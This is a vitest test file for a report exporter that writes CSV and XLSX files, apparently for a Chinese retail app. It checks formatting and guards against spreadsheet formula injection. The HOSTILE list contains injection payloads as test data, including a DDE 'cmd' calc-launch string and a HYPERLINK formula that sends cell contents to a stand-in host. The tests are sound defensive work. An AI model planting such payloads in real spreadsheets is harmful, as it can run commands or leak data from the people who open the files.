import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import readWorkbook from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import type { ReportPage, ReportTable } from '../../../shared/contract/reports.ts';
import { printedSeed } from '../../../test/support/printed-seed.ts';
import { harmless } from './export-cells.ts';
import { exportedRows, exportName, reportCsv, reportXlsx } from './export-report.ts';

/** Names as a supplier's list, a joker or an attacker may bring them in. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"点我")',
  '+86 138',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  'O"Brien, "the" 店',
  'a,b;c\nd',
  '美的"小天鹅"',
  '\u0000\u0007钟声',
  '\ud800半个字',
  '🐉 龙',
  "'已经有撇号",
  'toString',
  '__proto__',
  '00123',
  '6901234567892',
] as const;

/** What no cell of a file can hold. */
const LOST: readonly string[] = ['\u0000', '\u0007', '\ud800'];

function page(names: readonly string[], more: Partial<ReportTable> = {}): ReportPage {
  const table: ReportTable = {
    key: 'brands',
    columns: [
      { key: 'brand', kind: 'word', words: 'none' },
      { key: 'net', kind: 'fen' },
      { key: 'sale_count', kind: 'count' },
      { key: 'share', kind: 'rate' },
      { key: 'units', kind: 'milli' },
    ],
    rows: names.map((name, i) => [name, -123_456 - i, i, 1234, 1500]),
    totals: [null, -1, 2, 10_000, 3000],
    rowCount: names.length,
    ...more,
  };
  const dates = { from: '2026-06-01', to: '2026-06-18', beside: null };
  return { name: 'brands', ...dates, figures: [], chart: null, tables: [table], notes: [] };
}

const csvOf = (report: ReportPage): readonly (readonly string[])[] =>
  parse(Buffer.from(reportCsv(report, 'zh-CN')), { bom: true, relax_column_count: true });

describe('an exported table', () => {
  it('begins with the mark by which Excel knows Chinese, and has amounts in yuan', () => {
    const bytes = Buffer.from(reportCsv(page(['海尔']), 'zh-CN'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csvOf(page(['海尔']))).toEqual([
      ['品牌', '净额', '单数', '占比', '数量'],
      ['海尔', '-1234.56', '0', '0.1234', '1.500'],
      ['合计', '-0.01', '2', '1.0000', '3'],
    ]);
  });

  it('runs nothing: no text in it begins as a formula does, and every name can still be read', () => {
    const names = csvOf(page(HOSTILE))
      .slice(1, -1)
      .map(([name]) => name ?? '');
    expect(names).toHaveLength(HOSTILE.length);
    for (const [i, name] of names.entries()) {
      expect(name).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      const readable = [...(HOSTILE[i] ?? '')].filter((c) => !LOST.includes(c)).join('');
      expect([readable, `'${readable}`]).toContain(name);
    }
  });

  it('keeps numbers numbers, also those below nothing', () => {
    for (const row of csvOf(page(HOSTILE)).slice(1)) expect(row[1]).toMatch(/^-\d+\.\d\d$/);
  });

  it('says the same as a workbook, with numbers as numbers and text as text', async () => {
    const [sheet] = await readWorkbook(Buffer.from(await reportXlsx(page(HOSTILE), 'zh-CN')));
    const rows = sheet?.data ?? [];
    expect(rows[0]).toEqual(['品牌', '净额', '单数', '占比', '数量']);
    expect(rows).toHaveLength(HOSTILE.length + 2);
    for (const [i, row] of rows.slice(1, -1).entries()) {
      expect(row.slice(1)).toEqual([-(123_456 + i) / 100, i, 0.1234, 1.5]);
      expect(typeof row[0]).toBe('string');
      expect(String(row[0])).not.toMatch(/^[=+\-@＝＋－＠]/);
    }
    expect(rows.at(-1)?.slice(1)).toEqual([-0.01, 2, 1, 3]);
  });

  it('of several tables has each of them: below one another in CSV, a sheet each in a workbook', async () => {
    const one = page(['海尔']);
    const two = { ...one, tables: [...one.tables, { ...page(['美的']).tables[0], key: 'a/b' }] };
    const report = two as ReportPage; // the first table is there
    expect(csvOf(report).filter((row) => row[0] === '品牌')).toHaveLength(2);
    const sheets = await readWorkbook(Buffer.from(await reportXlsx(report, 'zh-CN')));
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['1 按品牌', '2 a b']);
  });

  it('of any text is harmless and comes back whole', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1 }), (names) => {
        const read = csvOf(page(names)).slice(1, -1);
        names.forEach((name, i) => {
          const expected = name === '' ? '（无）' : harmless(name);
          expect(read[i]?.[0]?.replace(/\r\n?/g, '\n')).toBe(expected.replace(/\r\n?/g, '\n'));
        });
      }),
      { ...printedSeed('exported text'), numRuns: 100 },
    );
  });

  it('has a name that any disk takes', () => {
    expect(exportName(page([]), 'zh-CN', 'csv')).toBe('按品牌_2026-06-01_2026-06-18.csv');
    expect(exportName(page([]), 'en', 'xlsx')).toBe('By_brand_2026-06-01_2026-06-18.xlsx');
  });

  it('is refused where it has more rows than a file holds', () => {
    const many = page([], { rowCount: 50_001 });
    expect(exportedRows(many)).toMatchObject({ ok: false, refusal: { code: 'export_too_large' } });
    expect(exportedRows(page(HOSTILE))).toEqual({ ok: true, value: HOSTILE.length });
  });
});
